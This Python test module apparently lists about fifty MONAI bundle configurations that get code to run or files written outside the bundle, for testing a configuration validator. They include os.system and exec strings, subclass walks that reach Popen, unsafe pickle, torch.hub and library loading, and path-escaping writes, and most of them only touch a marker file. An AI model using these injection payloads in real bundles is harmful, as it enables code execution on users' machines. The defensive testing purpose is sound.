"""Configurations that run code or write files where they should not, for tests.

Every one is a whole ``inference.json``; ``MARK`` is the file that a successful attack creates.
"""

from __future__ import annotations

from typing import Any

MARK = "@@MARK@@"
_TOUCH = f"__import__('pathlib').Path('{MARK}').touch()"
_OPEN = f"open('{MARK}', 'w')"  # MONAI cannot parse an expression that holds both a reference and the word import

# name → (configuration, id whose evaluation by bare MONAI creates MARK, or None where that needs more than one step)
ATTACKS: dict[str, tuple[dict[str, Any], str | None]] = {
    "dunder_import": ({"x": f"${_TOUCH}"}, "x"),
    "open_for_writing": ({"x": f"$open('{MARK}', 'w')"}, "x"),
    "exec_builtin": ({"x": f'$exec("{_TOUCH}")'}, "x"),
    "import_os": ({"imports": ["$import os"], "x": f"$os.system('touch {MARK}')"}, "x"),
    "import_hidden_in_metadata_key": (
        {"labels": {"note": "$import os as torch"}, "x": f"$torch.system('touch {MARK}')"},
        "x",
    ),
    "import_from": ({"i": "$from os import system as glob", "x": f"$glob('touch {MARK}')"}, "x"),
    "module_reference": ({"i": "$import os", "x": f"$@i.system('touch {MARK}')"}, "x"),
    "target_os_system": ({"x": {"_target_": "os.system", "command": f"touch {MARK}"}}, "x"),
    "target_bare_builtin": ({"x": {"_target_": "exec", "_mode_": "callable"}, "y": f'$@x("{_OPEN}")'}, "y"),
    "target_through_torch": ({"x": {"_target_": "torch.os.system", "command": f"touch {MARK}"}}, "x"),
    "target_through_monai_module": (
        {"x": {"_target_": "monai.utils.misc.subprocess.run", "args": ["touch", MARK]}},
        "x",
    ),
    "target_run_cmd": ({"x": {"_target_": "monai.utils.misc.run_cmd", "cmd_list": ["touch", MARK]}}, "x"),
    "target_computed": ({"t": "$'os.' + 'system'", "x": {"_target_": "@t", "command": f"touch {MARK}"}}, "x"),
    "nested_bundle": (
        {
            "c": {"_target_": "monai.bundle.ConfigParser", "config": {"y": "$@z"}},
            "x": {"_target_": "monai.bundle.run", "config_file": f"$['{MARK}'] if not {_TOUCH} else 0"},
        },
        "x",
    ),
    "numpy_attribute": ({"x": f"$np.f2py.os.system('touch {MARK}')"}, "x"),
    "torch_attribute": ({"x": f"$torch.os.system('touch {MARK}')"}, "x"),
    "monai_attribute": ({"x": f"$monai.utils.misc.os.system('touch {MARK}')"}, "x"),
    "dunder_class": (
        {
            "x": "$[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen']"
            f"[0](['touch', '{MARK}']).wait()"
        },
        "x",
    ),
    "getattr_builtin": ({"x": f"$getattr(torch, 'o' + 's').system('touch {MARK}')"}, "x"),
    "lambda_called": ({"x": f"$(lambda: {_TOUCH})()"}, "x"),
    "comprehension_shadows_module": (
        {"x": f"$[torch.touch() for torch in [__import__('pathlib').Path('{MARK}')]]"},
        "x",
    ),
    "walrus": ({"x": f"$(y := {_TOUCH})"}, "x"),
    "f_string": ({"x": "$f'{" + f'open("{MARK}", "w")' + "}'"}, "x"),
    "disabled_flag": (
        {"x": {"_target_": "monai.transforms.Identity", "_disabled_": f"${_TOUCH}"}},
        "x",
    ),
    "requires": ({"x": {"_target_": "monai.transforms.Identity", "_requires_": f"${_TOUCH}"}}, "x"),
    "description": ({"x": {"_target_": "monai.transforms.Identity", "_desc_": f"${_TOUCH}"}}, "x"),
    "key_becomes_code": (
        {f"a) or not {_OPEN} or ([0][0": {"c": "$(@#d])", "d": 1}, "a": None},
        f"a) or not {_OPEN} or ([0][0::c",
    ),
    "merged_key": (
        {"x": {"_target_": "monai.transforms.Identity"}, "x#_target_": "os.system", "x#command": f"touch {MARK}"},
        "x",
    ),
    "macro_makes_target": (
        {"t": "os.system", "x": {"_target_": "%t", "command": f"touch {MARK}"}},
        "x",
    ),
    "lambda_transform": (
        {
            "f": {"_target_": "os.system", "_mode_": "callable"},
            "x": {"_target_": "monai.transforms.Lambda", "func": "@f"},
            "y": f"$@x('touch {MARK}')",
        },
        "y",
    ),
    "reader_by_name": (
        {"x": {"_target_": "monai.transforms.LoadImage", "reader": "malicious_reader_module.Reader"}},
        None,
    ),
    "reader_through_partial": (
        {
            "f": {"_target_": "monai.transforms.LoadImage", "_mode_": "callable"},
            "x": {"_target_": "monai.transforms.Lambda", "func": "@f"},
        },
        None,
    ),
    "writer_by_name": (
        {"x": {"_target_": "monai.transforms.SaveImage", "writer": "malicious_reader_module.Reader"}},
        None,
    ),
    "pickle_flag": (
        {"x": {"_target_": "monai.transforms.LoadImage", "allow_pickle": True}, "y": "$@x('evil.npy')"},
        None,
    ),
    "torch_load": ({"x": {"_target_": "torch.load", "f": "evil.pt", "weights_only": False}}, None),
    "numpy_load": ({"x": "$np.load('evil.npy', allow_pickle=True)"}, None),
    "hub_code": (
        {"x": {"_target_": "torch.hub.load", "repo_or_dir": "evil/evil", "model": "x", "trust_repo": True}},
        None,
    ),
    "compile_extension": (
        {"x": {"_target_": "torch.utils.cpp_extension.load", "name": "x", "sources": ["evil.cpp"]}},
        None,
    ),
    "load_library": ({"x": "$torch.ops.load_library('evil.so')"}, None),
    "download": ({"x": {"_target_": "monai.apps.download_url", "url": "http://127.0.0.1:9/x", "filepath": MARK}}, None),
    "bundle_download": ({"x": {"_target_": "monai.bundle.download", "name": "x", "bundle_dir": MARK}}, None),
    "optional_import": ({"x": {"_target_": "monai.utils.optional_import", "module": "malicious_reader_module"}}, None),
    "pretrained_url": (
        {"x": {"_target_": "monai.networks.nets.HoVerNet", "pretrained_url": "http://127.0.0.1:9/x"}},
        None,
    ),
    "rendezvous": (
        {"x": "$torch.distributed.init_process_group(backend='gloo', init_method='tcp://127.0.0.1:9')"},
        None,
    ),
    "debugger": ({"x": {"_target_": "monai.transforms.Identity", "_mode_": "debug"}}, None),
    "breakpoint_flag": ({"x": {"_target_": "monai.transforms.Identity", "_debug_": True}}, None),
    "other_file": ({"x": "%/etc/evil.json::x"}, None),
    "multiprocessing_module": (
        {
            "d": {
                "_target_": "torch.utils.data.DataLoader",
                "dataset": [1],
                "multiprocessing_context": "fork",
                "num_workers": 1,
            },
            "x": f"$@d.multiprocessing_context.reducer.os.system('touch {MARK}')",
        },
        "x",
    ),
    "save_outside": (
        {"x": {"_target_": "monai.transforms.SaveImaged", "keys": "pred", "output_dir": "/tmp/outside"}},
        None,
    ),
    "save_above": (
        {"o": "$@bundle_root + '/../outside'", "x": {"_target_": "monai.handlers.MetricsSaver", "save_dir": "@o"}},
        None,
    ),
    "save_joined_outside": (
        {
            "imports": ["$import os"],
            "x": {"_target_": "monai.handlers.MetricsSaver", "save_dir": "$os.path.join(@bundle_root, '/tmp/outside')"},
        },
        None,
    ),
    "log_file": ({"x": {"_target_": "monai.handlers.LogfileHandler", "output_dir": "/tmp", "filename": MARK}}, None),
    "write_function": ({"x": f"$medkd.data.datalists.write_datalist(@d, '{MARK}')", "d": 1}, None),
    "environment": ({"i": "$import os", "x": "$os.environ['HOME']"}, None),
    "cudnn_trick": ({"x": "$setattr(torch.nn.Module, 'forward', print)"}, None),
}
